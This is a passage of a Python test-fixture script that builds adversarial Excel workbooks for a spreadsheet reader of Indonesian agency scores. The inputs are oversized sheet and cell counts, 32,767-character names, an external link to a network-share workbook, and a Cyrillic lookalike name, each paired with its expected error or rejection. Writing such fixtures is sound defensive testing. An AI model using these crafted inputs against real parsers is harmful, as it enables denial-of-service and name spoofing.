    """The table on the first sheet and 9,999 empty sheets after it (about 2 MB)."""
    path = _book(folder, "banyak_lembar.xlsx", _table([2, "Kota Bengkulu", 2.61, "Baik"]))
    members = {m[0]: m for m in _members_of(path)}
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
    empty = (b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
             b'spreadsheetml/2006/main"><sheetData/></worksheet>')
    ids = range(2, N_SHEETS + 1)
    sheets = "".join(f'<sheet name="L{i}" sheetId="{i}" r:id="rIdS{i}"/>' for i in ids)
    rels = "".join(f'<Relationship Id="rIdS{i}" Type="{rel}" Target="worksheets/sheet{i}.xml"/>'
                   for i in ids)
    types = "".join(f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/'
                    'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>' for i in ids)
    edits = {"xl/workbook.xml": (b"</sheets>", sheets), "xl/_rels/workbook.xml.rels":
             (b"</Relationships>", rels), "[Content_Types].xml": (b"</Types>", types)}
    for name, (end, extra) in edits.items():
        members[name] = _stored(name, members[name][1].replace(end, extra.encode() + end))
    out = list(members.values()) + [_stored(f"xl/worksheets/sheet{i}.xml", empty) for i in ids]
    return _raw_zip(path, out)


def _long_table(folder: Path, name: str, n_rows: int) -> Path:
    """An annex of ``n_rows`` data rows (four cells each) written as raw XML, unknown
    instansi names, so every row goes to rejects."""
    path = _book(folder, name, _table())
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>%d</v></c><c r="B%d" t="inlineStr"><is><t>'
                    b'Instansi Uji %06d</t></is></c><c r="C%d"><v>2.61</v></c><c r="D%d" '
                    b't="inlineStr"><is><t>Baik</t></is></c></row>' % (r, r, r, r, r, r, r)
                    for r in range(4, 4 + n_rows))
    return _rewrite(path, {SHEET: lambda b: re.sub(rb'<dimension ref="[^"]*"/>', b"", b)
                           .replace(b"</sheetData>", rows + b"</sheetData>")})


@case("rows-over-cell-limit", "error", f"more than {MAX_CELLS:,} non-empty cells",
      error=UnreadableInputError)
def rows_over_cell_limit(folder: Path) -> Path:
    """124,000 rows of four cells (496,000 cells; under the old limit of 500,000)."""
    return _long_table(folder, "baris_banyak.xlsx", 124_000)


def rows_under_cell_limit(folder: Path) -> Path:
    """Just under :data:`MAX_CELLS`: the most a workbook may hold, read in full (benchmark)."""
    return _long_table(folder, "baris_batas.xlsx", (MAX_CELLS - 12) // 4 - 1)


LONG_NAME_CHARS = 32_767  # Excel's limit for the text of one cell


def _long_name(i: int) -> str:
    return (f"Kabupaten {i:05d}" + " Bengkulu" * (LONG_NAME_CHARS // 9))[:LONG_NAME_CHARS - 1] + "x"


@case("long-names-32767", "error", f"more than {MAX_TEXT_CHARS:,} characters of text",
      error=UnreadableInputError, sheet="Lampiran", cell="B4")
def long_names(folder: Path) -> Path:
    """2,000 distinct names of 32,767 characters each (about 300 KB on disk)."""
    rows = [[i, _long_name(i), 2.61, "Baik"] for i in range(2, 2002)]
    return _book(folder, "nama_panjang.xlsx", _table(*rows))


@case("long-name-one", "reject", f"{LONG_NAME_CHARS:,} characters long", cell="C4")
def long_name_one(folder: Path) -> Path:
    """One name of 32,767 characters: read, not matched, in rejects with its length."""
    return _book(folder, "satu_nama_panjang.xlsx", _table([2, _long_name(2), 2.61, "Baik"]))


EXTERNAL_TARGET = "file:///\\\\fileserver\\spbe\\hasil_2023.xlsx"


@case("external-link", "reject", "external link", cell="C4")
def external_link(folder: Path) -> Path:
    """C4 is ``=[1]Sheet1!A1`` into a workbook on a network share, with a cached 2.61."""
    path = _book(folder, "tautan.xlsx", _table([2, "Kota Bengkulu", 0.5, "Baik"]))
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    link = (f'<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/'
            f'spreadsheetml/2006/main" xmlns:r="{rel}"><externalBook r:id="rId1"><sheetNames>'
            '<sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>')
    link_rels = (f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                 f'package/2006/relationships"><Relationship Id="rId1" Type="{rel}/'
                 f'externalLinkPath" Target="{EXTERNAL_TARGET}" TargetMode="External"/>'
                 '</Relationships>')
    override = (b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="'
                b'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>')
    book_rel = (f'<Relationship Id="rIdX1" Type="{rel}/externalLink" '
                'Target="externalLinks/externalLink1.xml"/></Relationships>').encode()
    _rewrite(path, {
        "[Content_Types].xml": lambda b: b.replace(b"</Types>", override + b"</Types>"),
        "xl/_rels/workbook.xml.rels": lambda b: b.replace(b"</Relationships>", book_rel),
        "xl/workbook.xml": lambda b: re.sub(
            rb"</sheets>", b'</sheets><externalReferences><externalReference xmlns:r="'
            + rel.encode() + b'" r:id="rIdX1"/></externalReferences>', b)},
        extra={"xl/externalLinks/externalLink1.xml": link.encode(),
               "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels.encode()})
    return _cell_xml(path, "C4", '<c r="C4"><f>[1]Sheet1!A1</f><v>2.61</v></c>')


CYRILLIC_NAME = "Kabupaten Leb\u043eng"  # the o is U+043E CYRILLIC SMALL LETTER O


@case("cyrillic-lookalike", "reject", "U+043E CYRILLIC SMALL LETTER O", cell="C4")
def cyrillic_lookalike(folder: Path) -> Path:
    return _book(folder, "kiril.xlsx", _table([2, CYRILLIC_NAME, 2.61, "Baik"]))


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print("usage: python tests/bad_inputs.py OUTPUT_FOLDER", file=sys.stderr)
        return 2
    root = Path(argv[0])
    for c in CASES:
        path = write_case(c, root / c.kind)
        print(f"{c.kind:<40} {c.outcome:<7} {path}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
